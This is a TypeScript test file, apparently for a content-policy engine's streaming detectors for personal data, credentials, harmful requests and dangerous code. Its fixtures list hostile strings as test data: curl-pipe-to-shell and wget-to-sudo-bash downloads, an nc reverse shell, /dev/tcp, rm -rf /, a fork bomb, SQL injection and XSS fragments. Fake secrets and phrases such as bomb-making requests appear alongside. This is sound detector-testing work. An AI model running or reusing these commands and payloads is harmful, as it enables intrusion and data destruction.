import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Search } from '../../src/policy/detector.ts';
import { entitySearches, labelledDetectors, structuredDetectors } from '../../src/policy/detectors/index.ts';
import { secrets } from '../../src/policy/detectors/secrets.ts';
import { auditLogger } from '../../src/policy/kinds/audit-logger.ts';
import { hazardCategories, structuredTypes } from '../../src/policy/detectors/names.ts';
import { codeSanitizer } from '../../src/policy/kinds/code-sanitizer.ts';
import { dlpFilter } from '../../src/policy/kinds/dlp-filter.ts';
import { entityListFilter } from '../../src/policy/kinds/entity-list-filter.ts';
import { piiDetector } from '../../src/policy/kinds/pii-detector.ts';
import { safetyFilter } from '../../src/policy/kinds/safety-filter.ts';
import { assembled, compileGrowing, everyLength, heldAt, tokenLengths, type GrowingEvaluator } from './open-law.ts';

/** Of each type, near misses, and words that name one. */
const personal = [
  '4111 1111 1111 1111|4111111111111111|5500-0000-0000-0004|3782 822463 10005|4222222222222|6304 0000 0000 0000',
  '123-45-6789|123 45 6789|900-70-1234|943 476 5919|9434765919|AB123456C|AB 12 34 56 C|12345678Z|X-1234567-L',
  'RSSMRA85T10A562S|GB29 NWBK 6016 1331 9268 19|NO93 8601 1117 947|MT84MALT011000012345MTLCAST001S|X|GB',
  'DE89370400440532013000|1 85 05 78 006 084 91|185057800608491|86095742719|86 095 742 719|111222333|1112.22.333',
  '2345 6789 0124|529.982.247-25|52998224725|046 454 286|bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq',
  '192.168.1.10|v1.2.3.4|10.0.0.0/8|fe80::1/64|2001:4860:4860::8888|00:1A:2B:3C:4D:5E|00-1A-2B-3C-4D-5E',
  '+1 (415) 555-2671|(415) 555-2671|5551234|415.555.2671|+44 20 7946 0958|0044 20 7946 0958|020 7946 0958',
  '555-123-4567| ext. 45| x123|john@x.com|a.b+c@mail.example.org|git@github.com|user@2x.png|https://u:p@h.com',
  '@|john|@x.com.|phone |call |text|texts us|credit card|ssn|ss #|social security|nhs|tax id|bsn|cpf|SIN ',
  'steuer|aadhaar|sécurité sociale|nir|2024|3.5|10,000|2024-01-15|10:30:00',
].flatMap((line) => line.split('|'));

/** Labels and what may follow them. */
const labelled = [
  'DOB: 03/12/1985|born on March 12th, 1985|date of birth|1985-03-12|12. März 1985|MRN: 00123456|patient ID #AB-48213|MRN |#',
  'PID|1||303635566^^|member ID: XQH054723313|policy no. 884-221-09|account number 12345678|acct|number is |no. |: |00123',
  'license plate 7ABC123|DL no. B1234567|serial number SN-4821|passport C01X0006H|cvv 123|exp 12/27|valid thru |cvv',
  'https://www.example.org/a?b=c#d|www.example.net|http://|www.|/x_(y))|.org,',
].flatMap((line) => line.split('|'));

/** Names and what stands around them. */
const named = [
  'John Smith|Dr. Anna Lee|anna lee|JOHN|Smith|12 Main Street, Springfield, IL 62704|Hauptstraße 5|Berlin|Germany|Acme Corp.',
  'My name is |I live in |works at |Mr. |, |. |\n|\n\n|          |45 years old|German|March 2021|Tuesday|University of Leeds|and ',
  'a ordinary sentence without anybody|the|of|xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx|O’Neil|van der Berg|Søren|',
].flatMap((line) => line.split('|'));

const entities = ['Project Falcon', 'Falcon Heavy', 'Zürich', 'straße', 'ガス', '用户', 'kg', 'C++'];
const names = [
  'Project Falcon|project  falcon|PROJECT\nFALCON|Falcon Heavy|Proj|ect|con|Ｆalcon|fal\u200bcon|Zürich|Zu\u0308rich|Zu',
  'STRASSE|straße|ｶﾞス|ガ|項目用户|㎏|kg|\u0308|\u{e0100}|c+|+',
].flatMap((line) => line.split('|'));

const random = 'q7Zt2Lw9Xc4Vb8Nm1Rk6Hj3Fd5Gs0Py';
const hex = '9f3a7c1e5b2d8046af13c7e95d0b8264';
const keyLine = (random + random).slice(0, 64);
/** Of each form of credential, with what is near one, and what stands around one. */
const credentials = [
  `ghp_${random}abcde`,
  `sk-ant-${random}`,
  `sk-${random}`,
  'AKIAQWERTYUIOPASDFG2',
  `SK${hex}`,
  `key-${hex}`,
  `eyJ${random}.eyJ${random}.${random}`,
  `xoxb-${random}`,
  `FlyV1 fm2_${random}${random}`,
  `hooks.slack.com/services/${random}`,
  `612345678:AA${random}Qw`,
  '12345678:',
  ':AA',
  `${random.slice(0, 14)}.atlasv1.${random}${random}`,
  '.atlasv1.',
  'postgres://app:tr0ub4dor@db.internal:5432/app',
  'redis://:s3cr3tpart@cache',
  '://',
  'http://u:',
  'p4ss@h',
  `Authorization: Bearer ${random}`,
  'Authorization: ',
  'Bearer ',
  `api_key = "${random}"`,
  `API_KEY=${hex}`,
  'password=hunter2x',
  'the password: Summer2024!',
  'password: ',
  'secret => ',
  'pwd:',
  '"hunter2x"',
  '=',
  '\\n',
  '`',
  `-----BEGIN RSA PRIVATE KEY-----\n${keyLine}\n${keyLine}\nAbCd==\n-----END RSA PRIVATE KEY-----`,
  '-----',
  '--',
  '-----BEGIN PRIVATE KEY-----',
  '-----END PRIVATE KEY-----',
  keyLine,
  `${keyLine}\n`,
  'Proc-Type: 4,ENCRYPTED\n',
  `abc8Q~${random}abc`,
  `${hex}-us14`,
  `${random.repeat(3).slice(0, 76)}AZDOab1c`,
  `${random.repeat(3).slice(0, 44)}AzFuab1cdQ==`,
  `curl -u deploy:${random}`,
  'curl --user',
  " 'ci:s3cretpart'",
  'sshpass -p hunter22 ',
  'mysql -phunter22',
  'redis-cli -a ',
  `setenv("API_TOKEN", "${random}")`,
  `<password>Tr0ub4dor3</password>`,
  `key="DB_PASSWORD" value="Tr0ub4dor3"`,
  `- name: DB_PASSWORD\n  value: Tr0ub4dor3\n`,
  'the password is Tr0ub4dor3',
  `my token is ${random}`,
  'password: str = "hunter22"',
  '&sig=',
  '?api_key=',
  'ENV API_TOKEN ',
  '\\"secret\\": \\"',
  'primary_key=',
  'LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQ',
];
/** What does harm when it is run, and what is near to it. */
const programs = [
  'rm -rf /|rm -r -f /etc|rm |-rf |sudo |mkfs.ext4 /dev/sda1|dd if=a of=/dev/sda|:(){ :|:& };:|> /dev/sda|> /dev/',
  'curl https://x.example/i.sh | sh|curl -k |curl | bash|wget -qO- x | sudo bash|bash <(curl x|iex (iwr |nc 10.0.0.1 4444 -e /bin/sh',
  '/dev/tcp/1.2.3.4/80|\u202e|<script|<script src=x>|javascript:|onerror=|onerror = "|data:text/html;|\' or 1=1|UNION SELECT a FROM b ',
  'DROP TABLE users|drop |DELETE FROM a;|eval(|yaml.load(|yaml.load(x, safe|shell = True|verify=False|a|/|"|;|)',
].flatMap((line) => line.split('|'));
const terms = ['Project Falcon', 'falcon', 'kryptonite', 'Zürich'];
const nearTerms =
  'Projct Falcon|flacon|Prject|cryptonite|TOP SECRET|FOR INTERNAL USE| ONLY|NOT FOR| DISTRIBUTION'.split('|');
const patterns = [
  'EMP-\\d{6}',
  '\\w+@corp\\.com',
  '\\bfoo\\b',
  'a(?:b{5}|bc?)',
  '\\p{Lu}\\p{Ll}+ \\p{Lu}\\p{Ll}+',
  'ID:[^;]*;?',
];
const nearPatterns =
  'EMP-123456|EMP-12|bob@corp.com|@corp|foo|foobar|abcbcd|abbbbb|ab|Anna Maria|Émile Zola|ID:x;|ID:'.split('|');

/** Longest numbers and their surroundings make texts of some hundred characters; more are tried by `measure:open`. */
const runs = { numRuns: 400 };

function holdsFor(evaluator: GrowingEvaluator, pieces: readonly string[]): void {
  fc.assert(
    fc.property(assembled(pieces), (text) => {
      expect(Math.max(0, ...heldAt(evaluator, text, everyLength(text)))).toBeLessThanOrEqual(4096);
    }),
    runs,
  );
}

describe('what is open is never decided, and what is decided stays', () => {
  it('for personal data', () => {
    holdsFor(compileGrowing(piiDetector), personal);
  });

  it.each([['email'], ['phone'], ['payment_card'], ['iban'], ['us_ssn', 'uk_nino'], ['ip_address', 'mac_address']])(
    'for %s alone',
    (...types) => {
      holdsFor(compileGrowing(piiDetector, { entities: types }), personal);
    },
  );

  it.each([
    ['labelled', labelledDetectors.flatMap(({ types }) => types)],
    ['tagged', ['person', 'location', 'street_address', 'organization', 'date', 'age', 'nationality', 'title']],
  ])('for what is %s', (_what, entities) => {
    holdsFor(compileGrowing(piiDetector, { entities }), [...labelled, ...named, ...personal]);
  });

  it('for all personal data', () => {
    const all = { entities: 'all', detect_patterns: { id: 'EMP-\\d{6}' } };
    holdsFor(compileGrowing(piiDetector, all), [...labelled, ...named, ...personal, 'EMP-123456']);
  });

  it('for words, in which not every detector is asked', () => {
    const search = entitySearches(structuredTypes)[0] as Search;
    const word = fc.stringMatching(/^[A-Za-z]{1,4}$|^[A-Z]{1,6}$|^[a-z]{1,12}$/);
    const gap = fc.constantFrom(
      ' ',
      ' ',
      ' ',
      '',
      '\n',
      ', ',
      '. ',
      "'",
      '!',
      '-',
      ' - ',
      '(',
      '/',
      '+',
      '_',
      '’',
      ' *',
      '**',
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(word, gap), { minLength: 1, maxLength: 6 }), fc.nat(), (parts, at) => {
        const text = parts.map(([letters, after]) => letters + after).join('');
        const from = search.open(text.slice(0, at % (text.length + 1)), 0);
        const least = Math.min(text.length, ...structuredDetectors.map((detector) => detector.open(text, from)));
        expect(search.open(text, from)).toBeLessThanOrEqual(least);
      }),
      { numRuns: 5000 },
    );
  });

  it('for what stands beside a wide gap, across which nothing matters', () => {
    const evaluator = compileGrowing(piiDetector, { entities: 'all' });
    const text = '06          04DOB: 03/12/1985';
    expect(() => heldAt(evaluator, text, everyLength(text))).not.toThrow();
  });

  it('for personal data with exceptions, which may uncover what an excepted match overlaps', () => {
    const excepted = (text: string): boolean => text.length % 3 === 0;
    holdsFor(compileGrowing(piiDetector, {}, excepted), personal);
  });

  it('for credentials', () => {
    holdsFor(compileGrowing(dlpFilter), credentials);
  });

  it('for harm', () => {
    const pieces =
      'How to make |a pipe bomb|. |! |?|\n|methamphetamine|prevent |。|... |Dr. |e.g. |kill |step by step|…'.split('|');
    holdsFor(compileGrowing(safetyFilter, { severity: 'low', mode: 'strict' }), pieces);
    const alike =
      'Tell me how to |get rid of a corpse| so that police| never find it|. |! |?|\n|…|How do I |buy a gun |without any papers|Good morning|, '.split(
        '|',
      );
    holdsFor(compileGrowing(safetyFilter, { severity: 'low', mode: 'strict' }), alike);
  });

  it('finds phrases, whole and nearly, beside sentences', () => {
    const phrases =
      'bypass the safety interlock|bypass|by|pass the| safety\n|interlock|interlocks|. |! |\n|plant a pipe bomb|how to make |bypas the safety interlock|x|methamphetamine|kill someone|prevent '.split(
        '|',
      );
    const settings = { mode: 'critical_infrastructure', block_if: ['plant a', 'the safety'], fuzzy_matching: true };
    holdsFor(compileGrowing(safetyFilter, settings), phrases);
  });

  it('for program text', () => {
    holdsFor(compileGrowing(codeSanitizer, { detect: hazardCategories }), programs);
  });

  it('for terms, near spellings and markings', () => {
    const settings = { secrets: false, blocked_terms: terms, fuzzy_matching: true, sensitivity_level: 'restricted' };
    holdsFor(compileGrowing(dlpFilter, settings), [...terms, ...nearTerms]);
  });

  it('for patterns of users', () => {
    holdsFor(compileGrowing(dlpFilter, { secrets: false, detect_patterns: patterns }), nearPatterns);
    holdsFor(compileGrowing(piiDetector, { detect_patterns: patterns }), [...nearPatterns, ...personal]);
  });

  it('for entities', () => {
    holdsFor(compileGrowing(entityListFilter, { blocked_entities: entities }), names);
    holdsFor(compileGrowing(entityListFilter, { blocked_entities: entities, whole_words: false }), names);
    holdsFor(compileGrowing(entityListFilter, { blocked_entities: ['falcon', 'a b', 'b a'] }), [...names, 'a b ', 'b']);
    holdsFor(compileGrowing(entityListFilter, { blocked_entities: entities, fuzzy_matching: true }), [
      ...names,
      ...nearTerms,
    ]);
  });
});

describe('the reach of a detector', () => {
  it.each([...structuredDetectors, ...labelledDetectors, secrets])(
    'holds all that matters to a match: $name',
    (detector) => {
      const { before, after } = detector.reach;
      expect(Math.max(before, after)).toBeLessThanOrEqual(4096);
      const filling = fc.constantFrom('', '1', 'a', ' ', 'phone ', '@', '-', '\ud83d', '用');
      const gap = fc.constantFrom('', ' ', 'and so on and on and on ', '.'.repeat(40), ' '.repeat(90));
      const pieces = fc.tuple(assembled([...personal, ...credentials]), gap, assembled([...personal, ...credentials]));
      fc.assert(
        fc.property(pieces, filling, filling, ([first, between, second], left, right) => {
          const text = first + between + second;
          for (const match of detector.find(text)) {
            if (match.type === 'secret:private_key') continue;
            const start = Math.max(0, match.start - before);
            const reached = text.slice(start, match.start + after);
            const outside = start === 0 ? '' : left;
            const around = outside + reached + (match.start + after < text.length ? right : '');
            const shift = start - outside.length;
            const expected = { ...match, start: match.start - shift, end: match.end - shift };
            const same = detector
              .find(around, (match.anchor ?? match.start) - shift)
              .find((other) => other.start === expected.start);
            expect(same?.end).toBe(expected.end);
            expect(same?.confidence).toBe(expected.confidence);
          }
        }),
        { numRuns: 200 },
      );
    },
  );
});

const prose = `The committee met on 12 March 2024 and approved a budget of 10,000 euros, about 3.5 percent more than in 2023.
Mr. Smith-Jones (the chair) said: "We can't wait any longer; it's now or never!" Nobody objected. Chapter 4 follows.`;

const code = `export function sum(values: readonly number[]): number {
  let total = 0;
  for (let index = 0; index < values.length; index++) total += values[index] ?? 0;
  return total; // O(n), see issue #1234
}
const colours = { red: '#ff0000', green: 0x00ff00 };
if (a && b || !c) console.log(\`\${x}: \${y.toFixed(2)}\`, 'done', 1e6, [1, 2, 3, 4]);`;

const markdown = `## Results

| year | share | **note** |
| ---- | ----: | -------- |
| 2023 | 12.5% | see [the report](https://example.org/reports/2023?page=7#top) |
| 2024 | 14.0% | *rising*, ~~falling~~ |

1. First, run \`npm install --save-dev vitest@4.1.0\`.
2. Then: **done**. --- And so on…`;

const chinese =
  '今天天气很好，我们一起去公园散步吧。会议定于2024年3月12日上午10点在北京举行，参加人数约150人，预算为3.5万元。';
const thai = 'วันนี้อากาศดีมากเราไปเดินเล่นที่สวนสาธารณะกันเถอะแล้วค่อยกลับบ้านตอนเย็นๆ';

describe('ordinary text flows', () => {
  const all: readonly (readonly [name: string, text: string])[] = [
    ['prose', prose],
    ['code', code],
    ['Markdown', markdown],
    ['Chinese', chinese],
    ['Thai', thai],
  ];
  const mean = (numbers: readonly number[]): number => numbers.reduce((sum, one) => sum + one, 0) / numbers.length;

  it.each(all)('%s past the search for personal data: about a word is held', (_name, text) => {
    const held = heldAt(compileGrowing(piiDetector), text, everyLength(text));
    expect(mean(held)).toBeLessThan(5);
    expect(Math.max(...held)).toBeLessThan(30);
  });

  it.each(all)('%s past the search for credentials: about a word is held', (_name, text) => {
    const held = heldAt(compileGrowing(dlpFilter), text, everyLength(text));
    expect(mean(held)).toBeLessThan(10);
  });

  it.each(all)('%s past the search for entities: hardly anything is held', (_name, text) => {
    const held = heldAt(
      compileGrowing(entityListFilter, { blocked_entities: ['Project Falcon'] }),
      text,
      everyLength(text),
    );
    expect(mean(held)).toBeLessThan(1.5);
  });

  it('in tokens, and whole at the end of a sentence and a line', () => {
    const evaluator = compileGrowing(piiDetector);
    expect(mean(heldAt(evaluator, prose, tokenLengths(prose)))).toBeLessThan(5);
    expect(evaluator.open('It is so. ', 0)).toBe(10);
    expect(evaluator.open('In 2024, ', 0)).toBe(9);
    expect(evaluator.open('10,000 people ', 0)).toBe(14);
    expect(evaluator.open('你好', 0)).toBe(2);
    expect(evaluator.open('so is', 0)).toBe(3);
  });

  it('of a number that may be personal only until that is decided', () => {
    const evaluator = compileGrowing(piiDetector);
    const text = 'My number is 415-555-2671 and that is about all that I have to say on it.';
    const held = heldAt(evaluator, text, everyLength(text));
    expect(evaluator.open(text.slice(0, 30), 0)).toBe(13);
    expect(Math.max(...held)).toBeLessThanOrEqual(13 + 33);
    expect(evaluator.open(text.slice(0, 63), 0)).toBeGreaterThan(25);
  });

  it('past what only watches', () => {
    expect(compileGrowing(auditLogger).open('john', 0)).toBe(4);
  });
});
